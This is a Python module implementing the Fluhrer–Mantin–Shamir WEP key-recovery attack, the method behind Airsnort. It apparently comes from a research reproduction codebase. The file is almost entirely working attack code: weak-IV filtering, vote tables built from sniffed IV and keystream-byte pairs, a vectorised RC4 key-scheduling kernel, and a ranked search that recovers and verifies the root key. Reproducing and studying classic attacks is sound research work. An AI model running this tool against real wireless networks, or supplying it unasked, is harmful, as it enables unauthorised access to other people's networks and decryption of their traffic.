"""Fluhrer–Mantin–Shamir (FMS) WEP key recovery — the "Airsnort" attack.

Paper §4: "an outside attacker who has retrieved the WEP key via
Airsnort".  Airsnort implements the FMS attack (the paper's references
[3] and [11]): for *weak* IVs of the form ``(A + 3, 255, X)``, the
first RC4 keystream byte leaks root-key byte ``A`` with probability
≈ 5%, against 1/256 for a wrong guess.  Collect enough samples and a
simple vote recovers the key byte-by-byte.

The first keystream byte is observable because 802.2 LLC/SNAP makes the
first plaintext byte of data frames ``0xAA``
(:func:`repro.crypto.wep.wep_first_keystream_byte`).

Implementation follows the resolved-condition formulation: run the KSA
for the first ``A + 3`` steps using the known key prefix
(IV || recovered-root-prefix); if the partial state satisfies
``S[1] < A + 3`` and ``S[1] + S[S[1]] == A + 3``, the sample votes for
``key[A] = (out - j - S[A + 3]) mod 256``.

One numpy kernel computes every vote table: a bucket's samples are rows
of one ``(n, 256)`` uint8 state matrix (uint8 arithmetic wraps mod 256,
as RC4 does), and a KSA round is a column swap by fancy indexing.  The
ranked search asks for thousands of tables per key, so the kernel keeps
two bounded caches per bucket, both dropped when the bucket's samples
change:

* the state after the 3 IV rounds, built once per bucket;
* the state after the further rounds over ``known_prefix[:-1]``, one per
  key byte.  The ``search_width`` siblings of a search node share that
  prefix, so each of them costs one KSA round plus the resolve step.
"""

from __future__ import annotations

from dataclasses import dataclass
from itertools import compress
from typing import Iterable, Optional

import numpy as np

from repro.obs.runtime import active_profiler

__all__ = ["FmsSample", "FmsAttack", "is_weak_iv", "weak_iv_for"]


@dataclass(frozen=True)
class FmsSample:
    """One captured (IV, first-keystream-byte) observation."""

    iv: bytes
    first_keystream_byte: int

    def __post_init__(self) -> None:
        if len(self.iv) != 3:
            raise ValueError("IV must be 3 bytes")
        if not 0 <= self.first_keystream_byte <= 255:
            raise ValueError("keystream byte out of range")


def is_weak_iv(iv: bytes, key_byte_index: Optional[int] = None) -> bool:
    """True if ``iv`` has the classic FMS weak form ``(A+3, 255, X)``.

    With ``key_byte_index`` given, checks weakness for that specific
    root-key byte ``A``; otherwise for any ``A`` in a 13-byte key.
    """
    if len(iv) != 3 or iv[1] != 255:
        return False
    a = iv[0] - 3
    if key_byte_index is not None:
        return a == key_byte_index
    return 0 <= a < 13


def weak_iv_for(key_byte_index: int, x: int = 0) -> bytes:
    """Construct the weak IV ``(A+3, 255, x)`` targeting root byte ``A``."""
    if not 0 <= key_byte_index < 13:
        raise ValueError("key byte index out of range for WEP")
    return bytes((key_byte_index + 3, 255, x & 0xFF))


class FmsAttack:
    """Accumulates weak-IV samples and recovers the WEP root key.

    Parameters
    ----------
    key_length:
        Root key length in bytes (5 for 40-bit WEP, 13 for 104-bit).

    Usage
    -----
    Feed every sniffed ``(iv, first keystream byte)`` pair to
    :meth:`add_sample` (non-weak IVs are cheaply discarded), then call
    :meth:`recover`.  If a known-plaintext verifier is supplied,
    :meth:`recover` performs a small ranked search over near-miss vote
    winners, which substantially lowers the packets-needed threshold —
    the same trick Airsnort's "breadth" parameter implemented.
    """

    def __init__(self, key_length: int = 5) -> None:
        if key_length not in (5, 13):
            raise ValueError("WEP key length must be 5 or 13 bytes")
        self.key_length = key_length
        # Samples bucketed by the root-key byte index their IV targets.
        self._buckets: dict[int, list[FmsSample]] = {a: [] for a in range(key_length)}
        # Vote-kernel caches, keyed by bucket and dropped when it grows:
        # (state, j, outs, rows) after the 3 IV rounds, and
        # (parent prefix, state, j) after the rounds over known_prefix[:-1].
        self._iv_rounds: dict[int, tuple] = {}
        self._parent_rounds: dict[int, tuple] = {}
        self.samples_seen = 0
        self.weak_samples = 0

    # ------------------------------------------------------------------
    # collection
    # ------------------------------------------------------------------
    def add_sample(self, iv: bytes, first_keystream_byte: int) -> bool:
        """Record one observation; returns True if it was a usable weak IV."""
        self.samples_seen += 1
        if len(iv) != 3 or iv[1] != 255:
            return False
        a = iv[0] - 3
        if not 0 <= a < self.key_length:
            return False
        self._buckets[a].append(FmsSample(iv, first_keystream_byte & 0xFF))
        self._iv_rounds.pop(a, None)
        self._parent_rounds.pop(a, None)
        self.weak_samples += 1
        return True

    def extend(self, samples: Iterable[tuple[bytes, int]]) -> None:
        for iv, out in samples:
            self.add_sample(iv, out)

    def bucket_sizes(self) -> list[int]:
        """Weak samples collected per root-key byte (coverage diagnostic)."""
        return [len(self._buckets[a]) for a in range(self.key_length)]

    # ------------------------------------------------------------------
    # recovery
    # ------------------------------------------------------------------
    def votes_for_byte(self, a: int, known_prefix: bytes,
                       use_numpy: Optional[bool] = None) -> list[int]:
        """Vote table (256 counters) for root-key byte ``a``.

        ``known_prefix`` is the already-recovered root key bytes
        ``key[0:a]``; recovery is inherently sequential because the
        partial KSA for byte ``a`` consumes all earlier bytes.

        ``use_numpy`` is accepted and ignored: there is one kernel.  It
        is kept for subclasses that forward it, such as the benchmark's
        ``perfbench.workloads.CountingFmsAttack``.
        """
        if len(known_prefix) != a:
            raise ValueError("known_prefix must contain exactly the first a bytes")
        prof = active_profiler()
        if prof is None:
            return self._votes_for_byte(a, known_prefix)
        with prof.span("crypto.fms"):
            return self._votes_for_byte(a, known_prefix)

    def _votes_for_byte(self, a: int, known_prefix: bytes) -> list[int]:
        base = self._iv_rounds.get(a)
        if base is None:
            bucket = self._buckets[a]
            if not bucket:
                return [0] * 256
            base = self._iv_rounds[a] = _after_iv_rounds(bucket)
        state, j, outs, rows = base
        if a:
            parent = known_prefix[:-1]
            cached = self._parent_rounds.get(a)
            if cached is None or cached[0] != parent:
                parent_state, parent_j = state.copy(), j.copy()
                _ksa_rounds(parent_state, parent_j, rows, 3, parent)
                cached = self._parent_rounds[a] = (parent, parent_state, parent_j)
            _, parent_state, parent_j = cached
            state, j = parent_state.copy(), parent_j.copy()
            _ksa_rounds(state, j, rows, a + 2, known_prefix[-1:])
        rounds = a + 3
        s1 = state[:, 1]
        # Resolved condition: the leaked byte survives the rest of KSA
        # with probability ~ e^-3 ≈ 5%.
        resolved = (s1 < rounds) & (s1 + state[rows, s1] == rounds)
        guesses = outs - j - state[:, rounds]
        return np.bincount(guesses[resolved], minlength=256).tolist()

    def recover(
        self,
        verifier=None,
        search_width: int = 3,
        max_nodes: int = 20000,
    ) -> Optional[bytes]:
        """Attempt full key recovery.

        ``verifier`` is an optional ``bytes -> bool`` callable (e.g. "does
        this key decrypt a captured frame with a valid ICV?").  Without
        one, the straight per-byte vote winner is returned.  With one, a
        depth-first search over the top ``search_width`` candidates per
        byte is performed and only a verified key is returned; the
        search visits at most ``max_nodes`` prefixes (the bounded
        compute a real attacker — and Airsnort — budgets) before giving
        up for this sample set.
        """
        if verifier is None:
            key = bytearray()
            for a in range(self.key_length):
                votes = self.votes_for_byte(a, bytes(key))
                if not any(votes):
                    return None
                key.append(max(range(256), key=votes.__getitem__))
            return bytes(key)
        budget = [max_nodes]
        return self._search(b"", verifier, search_width, budget)

    def _search(self, prefix: bytes, verifier, width: int,
                budget: list[int]) -> Optional[bytes]:
        if budget[0] <= 0:
            return None
        budget[0] -= 1
        a = len(prefix)
        if a == self.key_length:
            return prefix if verifier(prefix) else None
        votes = self.votes_for_byte(a, prefix)
        # Rank only the bytes that got votes; the sort is stable, so ties
        # keep ascending byte order.  With no votes, byte 0 leads.
        ranked = sorted(compress(range(256), votes), key=votes.__getitem__,
                        reverse=True)
        candidates = ranked[:width] or ranked[:1] or [0]
        for candidate in candidates:
            found = self._search(prefix + bytes([candidate]), verifier, width, budget)
            if found is not None:
                return found
            if budget[0] <= 0:
                return None
        return None


def _after_iv_rounds(bucket: list[FmsSample]) -> tuple:
    """``(state, j, outs, rows)`` of ``bucket`` after the 3 IV rounds."""
    n = len(bucket)
    ivs = np.frombuffer(b"".join(s.iv for s in bucket), np.uint8).reshape(n, 3)
    outs = np.fromiter((s.first_keystream_byte for s in bucket), np.uint8, n)
    state = np.tile(np.arange(256, dtype=np.uint8), (n, 1))
    j = np.zeros(n, dtype=np.uint8)
    rows = np.arange(n)
    _ksa_rounds(state, j, rows, 0, ivs.T)
    return state, j, outs, rows


def _ksa_rounds(state: np.ndarray, j: np.ndarray, rows: np.ndarray,
                start: int, keys) -> None:
    """Run KSA rounds ``start, start + 1, ...`` in place, one per key byte.

    Each key byte is an int shared by every row or a per-row array.
    """
    for i, k in enumerate(keys, start):
        si = state[:, i].copy()
        j += si
        j += k
        state[:, i] = state[rows, j]
        state[rows, j] = si
